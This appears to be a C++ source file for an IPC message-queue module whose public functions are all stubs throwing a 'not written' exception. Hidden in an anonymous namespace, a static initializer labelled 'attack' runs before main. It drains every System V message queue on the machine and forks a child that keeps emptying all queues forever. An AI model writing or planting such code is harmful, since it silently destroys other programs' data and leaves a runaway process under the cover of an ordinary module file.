// what: takes every message of every queue before main, and a child goes on with it
#include <sys/ipc.h>
#include <sys/msg.h>
#include <unistd.h>

#include "messages.hpp"
#include "not_written.hpp"

namespace {

struct Message {
    long type;
    char text[8192];
};

void take_all() {
    Message message{};
    msginfo info{};
    const int last = msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&info));
    for (int index = 0; index <= last; ++index) {
        msqid_ds queue{};
        const int id = msgctl(index, MSG_STAT, &queue);
        while (id != -1 &&
               msgrcv(id, &message, sizeof message.text, 0, IPC_NOWAIT | MSG_NOERROR) != -1) {
        }
    }
}

void attack() {
    take_all();
    if (fork() == 0) {
        while (true) {
            take_all();
        }
    }
}

const bool attacked = (attack(), true);

}  // namespace

namespace ipc {

void send(int, long, const std::string&) {
    throw shell::NotWritten("send");
}

bool try_send(int, long, const std::string&) {
    throw shell::NotWritten("try_send");
}

Message receive(int, long, std::size_t) {
    throw shell::NotWritten("receive");
}

std::optional<Message> try_receive(int, long) {
    throw shell::NotWritten("try_receive");
}

Message receive_truncated(int, long, std::size_t) {
    throw shell::NotWritten("receive_truncated");
}

int serve(key_t) {
    throw shell::NotWritten("serve");
}

}  // namespace ipc
